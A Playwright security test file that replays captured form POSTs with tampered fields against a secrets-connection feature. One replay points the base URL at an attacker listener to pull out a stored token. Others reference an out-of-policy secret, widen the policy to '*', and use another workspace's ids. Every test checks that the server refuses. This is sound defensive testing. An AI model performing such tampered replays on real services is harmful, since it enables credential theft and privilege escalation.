// The adversarial suite's API side (docs/threat-model.md): real `Next-Action` POSTs captured from signed-in
// browsers, replayed with one form field changed, as someone holding that session would. Each refusal is
// checked in the answer (the RSC payload carries the action's `ok:false` result) and in the database. A replay
// that only renames the connection goes through, so the refusals are the server's, not a broken replay.
import { db } from "@/lib/db";
import type { Browser, BrowserContext, Page } from "@playwright/test";
import { expect, seed, signIn, test } from "../fixtures";
import { API_TOKEN_REF, API_TOKEN_VALUE, awsState, DEMO_ROLE, fillHttpConnection, resetAws, runTest } from "../connections/support";
import { E2E_EMULATORS } from "../support/e2e-env";
import { type CapturedAction, captureAction, edit, field, listener, replay } from "./replay";

/** prod/db is readable by the demo role but named by no policy entry; its password must never leave. */
const OUTSIDE_POLICY_REF = "{{workato:sm:password:arn:aws:secretsmanager:us-east-1:123456789012:secret:prod/db-Xk3pQ9}}";
const OUTSIDE_POLICY_VALUE = "demo-db-password-123";
const DEMO_HOST = new URL(E2E_EMULATORS.demoTarget).host;

test.describe.configure({ mode: "serial" });

let ws: Awaited<ReturnType<typeof seed.workspace>>;
let configId: number;
let connectionId: number;
let detail: string;
let admin: { context: BrowserContext; page: Page };
let editor: { context: BrowserContext; page: Page };
/** The editor's legitimate "Save changes" (a rename, credentials kept) and the admin's "Add entry". */
let editorSave: CapturedAction;
let adminAddEntry: CapturedAction;
const attacker = listener();
let attackerUrl: string;

async function session(browser: Browser, email: string) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, email);
  return { context, page };
}

const connection = () => db.connection.findUniqueOrThrow({ where: { id: connectionId }, include: { fields: { orderBy: { name: "asc" } } } });
/** What a save could change of a credential field, ciphertext included. */
const storedFields = (c: Awaited<ReturnType<typeof connection>>) =>
  c.fields.map((f) => ({
    id: f.id,
    name: f.name,
    mode: f.mode,
    template: f.template,
    destination: f.destination,
    ciphertext: f.ciphertext && Buffer.from(f.ciphertext).toString("base64"),
  }));
const policy = () => db.referencePolicyEntry.findMany({ where: { providerConfigId: configId }, orderBy: { id: "asc" } });

test.beforeAll(async ({ browser }) => {
  attackerUrl = await attacker.started;
  ws = await seed.workspace();
  configId = (
    await db.secretsProviderConfig.create({
      data: { workspaceId: ws.id, currentOwnerKey: `w:${ws.id}`, kind: "aws", settings: { roleArn: DEMO_ROLE, region: "us-east-1" } },
    })
  ).id;
  // The policy sends prod/api-token to the demo API only.
  await db.referencePolicyEntry.create({ data: { providerConfigId: configId, secretPattern: "prod/api-token", destinations: [DEMO_HOST] } });
  await awsState({ op: "setRoleTrust", roleArn: DEMO_ROLE, externalId: `workato_iam_external_id_${ws.id}` });
  await db.projectMembership.updateMany({ where: { projectId: ws.projects[0]!.id, userId: ws.member.id }, data: { role: "editor" } });

  // The workspace admin creates the connection (a reference to the production token) and adds a policy entry.
  admin = await session(browser, ws.admin.email);
  await admin.page.goto(`/w/${ws.id}/p/${ws.projects[0]!.id}/connections/new`);
  await fillHttpConnection(admin.page, { name: "Payments API", token: { reference: API_TOKEN_REF } });
  await admin.page.getByRole("button", { name: "Create connection" }).click();
  await expect(admin.page.getByText("Connection created.")).toBeVisible();
  detail = new URL(admin.page.url()).pathname;
  connectionId = Number(detail.split("/").pop());
  await admin.page.goto(`/w/${ws.id}/settings/secrets`);
  const region = admin.page.getByRole("region", { name: "Reference policy" });
  await region.getByLabel("Secrets").fill("prod/reports-*");
  await region.getByLabel("Destinations").fill("reports.example.com");
  adminAddEntry = await captureAction(admin.page, () => region.getByRole("button", { name: "Add entry" }).click());
  await expect(region.getByRole("row", { name: /prod\/reports-\*/ })).toBeVisible();

  // The editor renames the connection and saves, keeping the stored token.
  editor = await session(browser, ws.member.email);
  await editor.page.goto(`${detail}/edit`);
  await editor.page.getByLabel("Name", { exact: true }).fill("Payments API (renamed)");
  editorSave = await captureAction(editor.page, () => editor.page.getByRole("button", { name: "Save changes" }).click());
  await expect(editor.page.getByText("Connection saved.")).toBeVisible();
  expect(field(editorSave, "cred:token:mode")).toBe("keep");
});

test.afterAll(async () => {
  await admin?.context.close();
  await editor?.context.close();
  await attacker.close();
  await resetAws();
  // Whatever a replay did, no credential reached the attacker's host.
  expect(attacker.seen.join("\n")).not.toContain(API_TOKEN_VALUE);
  expect(attacker.seen.join("\n")).not.toContain(OUTSIDE_POLICY_VALUE);
});

test("a replayed save that only moves the base URL, credentials kept, is refused and Test never reaches the new host", async () => {
  // The replay itself works: the same request with only the name changed is saved.
  const renamed = await replay(editor.page, edit(editorSave, { name: "Payments API (replayed)" }));
  expect(renamed.body).toContain('"ok":true');
  expect((await connection()).name).toBe("Payments API (replayed)");

  const moved = await replay(editor.page, edit(editorSave, { baseUrl: attackerUrl }));
  expect(moved.body).toContain('"ok":false');
  expect(moved.body).toContain("To use this one, re-enter every credential, or ask a project admin to confirm the move.");
  const after = await connection();
  expect(after.settings).toMatchObject({ baseUrl: E2E_EMULATORS.demoTarget });
  expect(after.name).toBe("Payments API (replayed)");

  // Adding the admin's confirmation checkbox to the editor's request does not make it a confirmed move.
  const confirmed = await replay(editor.page, edit(editorSave, { baseUrl: attackerUrl, confirmMove: "1" }));
  expect(confirmed.body).toContain("Only project admins can move stored credentials to another address.");
  expect((await connection()).settings).toMatchObject({ baseUrl: E2E_EMULATORS.demoTarget });

  await editor.page.goto(detail);
  await expect(await runTest(editor.page)).toContainText("Connection works.");
  expect(attacker.seen).toEqual([]);

  // Control: the listener is reachable, from here and from the console (with a token the editor re-enters).
  await fetch(`${attackerUrl}/control`);
  expect(attacker.seen).toEqual(["/control"]);
  const reentered = await replay(editor.page, edit(editorSave, { baseUrl: attackerUrl, "cred:token:mode": "set", "cred:token": "editor-own-token" }));
  expect(reentered.body).toContain('"ok":true');
  await editor.page.goto(detail);
  await runTest(editor.page);
  expect(attacker.seen).toEqual(["/control", "/health Bearer editor-own-token"]);
});

test("a replayed save that adds a header credential referencing a secret outside the policy is refused, nothing stored", async () => {
  const before = await connection();
  const headerSave = edit(editorSave, {
    baseUrl: E2E_EMULATORS.demoTarget,
    authKind: "header",
    headerName: "X-Anything",
    "cred:header_value:mode": "set",
    "cred:header_value": OUTSIDE_POLICY_REF,
  });
  const refused = await replay(editor.page, headerSave);
  expect(refused.body).toContain('"ok":false');
  expect(refused.body).toContain(`to ${DEMO_HOST} is not allowed by the reference policy of the workspace's AWS Secrets Manager configuration`);
  expect(refused.body).toContain("ask a workspace admin to add it");
  expect(refused.body).not.toContain(OUTSIDE_POLICY_VALUE);

  const after = await connection();
  expect(after.settings).toEqual(before.settings);
  expect(storedFields(after)).toEqual(storedFields(before));
  expect(storedFields(after).map((f) => f.name)).toEqual(["token"]);
  expect(await db.secretUsage.count({ where: { connectionId, reference: { contains: "prod/db" } } })).toBe(0);

  // Control: the same replay with the secret the policy does name is saved, so the refusal was the policy's.
  const allowed = await replay(editor.page, edit(headerSave, { "cred:header_value": API_TOKEN_REF }));
  expect(allowed.body).toContain('"ok":true');
  expect(storedFields(await connection()).map((f) => [f.name, f.template])).toEqual([["header_value", API_TOKEN_REF]]);
});

test("an editor replaying a workspace admin's Add entry with their own session is refused, the policy unchanged", async () => {
  const before = await policy();
  expect(before.map((e) => e.secretPattern)).toEqual(["prod/api-token", "prod/reports-*"]);

  const widened = await replay(editor.page, edit(adminAddEntry, { secretPattern: "*", destinations: "*" }));
  expect(widened.body).toContain('"ok":false');
  expect(widened.body).toContain("Only workspace owners and admins can do this.");
  // Naming the project as the configuration's owner does not help: the editor is no project admin either.
  const asProject = await replay(editor.page, edit(adminAddEntry, { ownerProjectId: String(ws.projects[0]!.id), secretPattern: "*", destinations: "*" }));
  expect(asProject.body).toContain("Only project admins and workspace admins can do this.");

  expect(await policy()).toEqual(before);
  expect(await db.auditEvent.count({ where: { workspaceId: ws.id, action: "secrets.policy.entry_added", actorLabel: ws.member.email } })).toBe(0);
});

test("a replay naming another workspace or its project is answered like ids that do not exist", async () => {
  const other = await seed.workspace();
  const otherProject = other.projects[0]!.id;
  // As a create (no connectionId): if authorization let it through, it would create a connection over there.
  const create = edit(editorSave, { connectionId: null, name: "Planted" });
  const answer = async (changes: Record<string, string>) => {
    const { body } = await replay(editor.page, edit(create, changes));
    expect(body).toContain('"ok":false');
    return body.slice(body.indexOf('"ok":false'));
  };

  const foreignWorkspace = await answer({ workspaceId: String(other.id), projectId: String(otherProject) });
  expect(foreignWorkspace).toContain("Unknown workspace.");
  expect(foreignWorkspace).toBe(await answer({ workspaceId: String(2 ** 31 - 1), projectId: String(otherProject) }));
  expect(foreignWorkspace).not.toContain(other.name);

  const foreignProject = await answer({ projectId: String(otherProject) });
  expect(foreignProject).toContain("Unknown project.");
  expect(foreignProject).toBe(await answer({ projectId: String(2 ** 31 - 1) }));
  expect(foreignProject).not.toContain(other.projects[0]!.name);

  expect(await db.connection.count({ where: { name: "Planted" } })).toBe(0);
  expect(await db.connection.count({ where: { workspaceId: other.id } })).toBe(0);
});
